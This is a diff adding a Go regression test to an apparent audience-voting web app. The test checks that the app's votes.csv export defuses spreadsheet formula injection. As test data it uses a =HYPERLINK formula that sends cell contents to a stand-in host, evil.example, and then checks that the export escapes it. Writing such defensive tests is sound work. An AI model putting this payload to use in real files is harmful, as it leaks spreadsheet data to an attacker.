@@ -469,3 +469,23 @@ func TestWhatNoRoomIsMadeOf(t *testing.T) {
 		t.Errorf("a browser is led to %q: %d, cookies %v", at, res.StatusCode, res.Cookies())
 	}
 }
+
+// A title that a link brings along is no formula in the host's spreadsheet.
+func TestVotesHaveNoFormulas(t *testing.T) {
+	s := open(t, nil)
+	sc := parsed(t, twoText)
+	sc.Title = `=HYPERLINK("http://evil.example/"&A1,"click")`
+	text, err := link.Encode(link.State{Scenario: sc})
+	if err != nil {
+		t.Fatal(err)
+	}
+	code, secret := s.makeRoom(t, url.Values{"link": {text}})
+	host := s.visit(t, code, "en", nil).join("host", object{"secret": secret})
+	voter := s.visit(t, code, "en", nil).join("audience", nil)
+	host.must(object{"do": "ask", "kind": "predict"})
+	voter.must(object{"do": "vote", "option": 0})
+	_, votes := s.do(t, "GET", "/room/"+code+"/votes.csv", nil, "Authorization", "Bearer "+secret)
+	if strings.Count(votes, "\n") != 2 || strings.Contains(votes, `"=HYPER`) || !strings.Contains(votes, `"'=HYPER`) {
+		t.Errorf("votes: %s", votes)
+	}
+}
